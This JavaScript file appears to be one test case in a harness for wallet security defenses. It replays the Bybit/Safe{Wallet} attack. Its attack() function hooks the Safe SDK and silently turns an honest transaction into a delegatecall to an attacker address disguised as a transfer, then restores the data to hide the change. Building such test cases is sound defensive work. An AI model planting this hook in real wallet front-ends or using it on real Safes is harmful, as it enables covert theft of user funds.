// B01: the bundle's Safe SDK is wrapped, so executing an honest transaction delegates the Safe to the attacker's code.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'B01',
  title: 'Safe execTransaction swapped for a delegate call, restored afterwards',
  source: 'Bybit / Safe{Wallet}, 21 February 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`], contracts: [`${a.chain}:${a.SAFE}`], delegates: [] }),

  attack(a) {
    let sdk;
    Object.defineProperty(window, 'safeSDK', {
      configurable: true,
      get: () => sdk,
      set(genuine) {
        const execute = genuine.executeTransaction;
        genuine.executeTransaction = async (tx) => {
          const kept = structuredClone(tx.data);
          if (tx.data.operation === 0) {
            // As then: it reads like transfer(implementation, 0) but runs as the Safe's own code.
            const data = `0xa9059cbb${a.EVIL.slice(2).padStart(64, '0')}${'0'.repeat(64)}`;
            Object.assign(tx.data, { to: a.EVIL, value: 0n, data, operation: 1 });
          }
          try {
            return await execute(tx);
          } finally {
            tx.data = kept;
          }
        };
        sdk = genuine;
      },
    });
  },

  async action(a, app) {
    const word = (value) =>
      (typeof value === 'string' ? value.replace(/^0x/, '') : value.toString(16)).toLowerCase().padStart(64, '0');
    const bytes = (hex) => {
      const body = hex.replace(/^0x/, '');
      return word(body.length / 2) + body.padEnd(Math.ceil(body.length / 64) * 64, '0');
    };
    window.safeSDK = {
      executeTransaction({ data: { to, value, data, operation } }) {
        const tail = bytes(data);
        const head = [to, value, 320, operation, 0, 0, 0, 0, 0, 320 + tail.length / 2].map(word).join('');
        const calldata = `0x6a761202${head}${tail}${bytes('ab'.repeat(65))}`;
        const tx = { from: a.USER, to: a.SAFE, data: calldata };
        return app.provider.request({ method: 'eth_sendTransaction', params: [tx] });
      },
    };
    const tx = { data: { to: a.GOOD, value: 5n, data: '0x', operation: 0 } };
    await window.safeSDK.executeTransaction(tx);
    return { shown: tx.data.to };
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: (a) => ({ surface: 'eip1193', role: 'delegate', account: a.EVIL, grade: 'authority' }),
};
